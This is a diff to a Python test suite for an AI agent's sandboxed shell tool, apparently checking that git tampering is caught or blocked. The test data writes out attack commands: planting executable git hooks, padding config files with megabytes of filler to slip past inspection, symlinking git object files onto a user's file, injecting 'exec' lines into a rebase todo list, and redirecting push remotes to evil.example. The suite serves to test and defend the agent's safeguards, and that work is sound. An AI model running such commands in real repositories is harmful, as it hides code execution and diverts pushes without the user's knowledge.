@@ -678,6 +678,9 @@ HOOK = "printf '#!/bin/sh\\ntouch PWNED\\n' > {0}/pre-commit; chmod +x {0}/pre-c
         ("module", f"git status; {evil_config('.git/modules/lib/deep')}"),
         ("module", f"git status; {HOOK.format('.git/modules/lib/deep/hooks')}"),
         ("repository", f"git status; {DEEP_MODULE}"),
+        ("repository", f"git init -q x; yes '# ' | head -c 9000000 >> x/.git/config; {evil_config('x/.git')}"),
+        ("repository", f"git status; yes '# ' | head -c 9000000 > .git/config.worktree; cat {EVIL_FILE} "
+         ">> .git/config.worktree"),
         ("repository", f"git status; git init -q --bare .git/worktrees/w; {evil_config('.git/worktrees/w')}; "
          "mkdir sub; echo 'gitdir: ../.git/worktrees/w' > sub/.git"),
         ("repository", f"git status; git worktree add -q tree; cat {EVIL_FILE} > .git/worktrees/tree/config.worktree"),
@@ -765,7 +768,20 @@ async def test_a_link_in_a_git_directory_that_leads_out_of_it_is_put_aside(harne
 
 
 @works
-async def test_a_command_adds_no_program_to_a_rebase_that_the_user_continues(harness: ToolHarness) -> None:
+async def test_a_link_among_the_objects_overwrites_no_file(harness: ToolHarness) -> None:
+    repository(harness.dir)
+    mine = Path.home() / "mine"
+    mine.write_text("# mine\n")
+    attack = f"git status; mkdir -p .git/objects/info; ln -s {mine} .git/objects/info/commit-graph"
+    value = await harness.use(shell(harness), command=attack)
+    assert "objects/info/commit-graph" in value.message
+    git(harness.dir, "commit-graph", "write", "--reachable")
+    assert mine.read_text() == "# mine\n"
+
+
+@works
+@pytest.mark.parametrize("before", ["", "head -c 4300000 /dev/zero | tr '\\0' '#'; "])
+async def test_a_command_adds_no_program_to_a_rebase_that_the_user_continues(harness: ToolHarness, before: str) -> None:
     repository(harness.dir)
     git(harness.dir, "checkout", "-q", "-b", "topic")
     for branch, text in (("topic", "2"), ("main", "3")):
@@ -773,9 +789,9 @@ async def test_a_command_adds_no_program_to_a_rebase_that_the_user_continues(har
         (harness.dir / "a").write_text(text)
         git(harness.dir, "commit", "-qam", text)
     subprocess.run(["git", "rebase", "topic"], cwd=harness.dir, check=False, capture_output=True)
-    attack = "git status --short; echo 'exec touch PWNED' >> .git/rebase-merge/git-rebase-todo"
+    attack = f"git status --short; ({before}echo; echo 'exec touch PWNED') >> .git/rebase-merge/git-rebase-todo"
     value = await harness.use(shell(harness), command=attack)
-    assert "they run programs" in value.message
+    assert "what runs programs" in value.message
     git(harness.dir, "add", "a")
     git(harness.dir, "-c", "core.editor=true", "rebase", "--continue")
     assert not (harness.dir / "PWNED").exists()
@@ -788,15 +804,51 @@ async def test_a_remote_of_git_is_moved_only_with_an_approval(harness: ToolHarne
     git(harness.dir, "remote", "add", "origin", "https://example.org/a.git")
     sandbox = Sandbox(SandboxConfig(network=False), harness.workspace, trusted=True)
     tool = Shell(harness.workspace, harness.approvals, ToolProgress(), sandbox=sandbox)
-    await harness.use(tool, command="git remote -v; git remote add fork ./fork.git; git branch topic")
+    await harness.use(tool, command="git remote -v; git branch topic; git branch -u origin/main topic")
     assert harness.asked == []
     harness.answer = "reject"
-    for command in ("git remote set-url origin https://evil.example/a", 'x=set-url; git remote "$x" origin evil',
+    for command in ("git remote add fork ./fork.git", "git submodule sync",
+                    "git remote set-url origin https://evil.example/a", 'x=set-url; git remote "$x" origin evil',
                     "git -C . remote rename fork origin2", "git remote rm origin"):  # fmt: skip
         value = await harness.use(tool, command=command)
         assert value.is_error
-    assert len(harness.asked) == 4
+    assert len(harness.asked) == 6
     assert git(harness.dir, "remote", "get-url", "origin") == "https://example.org/a.git\n"
+
+
+@works
+@pytest.mark.parametrize(
+    ("attack", "undone"),
+    [
+        ("git config remote.origin.url https://evil.example/a", "remote.origin.url"),
+        ("git config --add remote.origin.pushUrl https://evil.example/a", "remote.origin.pushurl"),
+        ("git config remote.pushDefault https://evil.example/a", "remote.pushdefault"),
+        ("git config branch.main.pushRemote https://evil.example/a", "branch.main.pushremote"),
+        ("git remote add evil https://evil.example/a; git config branch.main.remote evil", "branch.main.remote"),
+        ("git config --worktree remote.origin.pushUrl https://evil.example/a", "remote.origin.pushurl"),
+        ("cd ../tree; git config --worktree branch.x.remote https://evil.example/a", "branch.x.remote"),
+    ],
+)
+async def test_a_program_that_git_starts_changes_nothing_about_where_a_push_goes(
+    harness: ToolHarness, attack: str, undone: str
+) -> None:
+    """A hook of the user's runs a script of the project, while Git may write its settings."""
+    top, tree = harness.dir / "top", harness.dir / "tree"
+    repository(top)
+    git(top, "remote", "add", "origin", "https://example.org/a.git")
+    git(top, "config", "extensions.worktreeConfig", "true")
+    git(top, "worktree", "add", "-q", "-b", "x", str(tree))
+    hook = top / ".git/hooks/pre-commit"
+    hook.parent.mkdir(exist_ok=True)
+    hook.write_text("#!/bin/sh\nunset GIT_DIR GIT_INDEX_FILE\nexec sh ./check.sh\n")
+    hook.chmod(0o755)
+    (top / "check.sh").write_text(attack)
+    workspace = Workspace(top, [tree])
+    tool = Shell(workspace, harness.approvals, ToolProgress(), sandbox=Sandbox(SandboxConfig(), workspace))
+    value = await harness.use(tool, command="git commit -q --allow-empty -m x")
+    assert undone in value.message
+    for folder in (top, tree):
+        assert "evil" not in git(folder, "config", "--list")
 
 
 @works
